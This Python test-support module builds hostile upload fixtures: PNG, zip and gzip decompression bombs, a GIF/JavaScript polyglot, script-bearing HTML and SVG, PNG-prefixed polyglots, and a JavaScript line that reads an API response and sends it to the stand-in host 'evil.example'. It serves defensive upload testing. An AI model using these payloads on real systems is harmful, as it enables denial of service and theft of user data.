"""Hostile files for the upload tests: each is real bytes a browser, an image decoder or an
unzip tool would treat the way an attacker intends."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from functools import cache

from tests.support.media import png

EXPANDED = 64 * 1024 * 1024  # what each bomb below decompresses to


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int, idat: bytes = b"") -> bytes:
    """A PNG whose header claims ``width`` x ``height`` (a decoder would allocate for it)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@cache  # made once per session: compressing 64 MiB takes a while
def png_bomb() -> bytes:
    """100000 x 100000 pixels, with image data that inflates to 64 MiB from about 64 KiB."""
    return png_claiming(100_000, 100_000, zlib.compress(bytes(EXPANDED), 9))


@cache  # made once per session: compressing 64 MiB takes a while
def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for i in range(4):  # four members: an unzip tool writes 4 x 64 MiB
            z.writestr(f"zeros-{i}.bin", bytes(EXPANDED))
    return out.getvalue()


@cache  # made once per session: compressing 64 MiB takes a while
def gzip_bomb() -> bytes:
    return gzip.compress(bytes(EXPANDED), compresslevel=9, mtime=0)


# A file that is a valid GIF to an image decoder and valid JavaScript to a script tag:
# harmless only if it is never served as script from a page's origin.
GIF_JS = b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00*/=alert(document.domain);//;"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JS = b"fetch('/api/v1/projects').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"
PNG_THEN_HTML = png() + HTML
PNG_THEN_ZIP = png() + b"PK\x03\x04" + bytes(26) + b"evil.html" + HTML
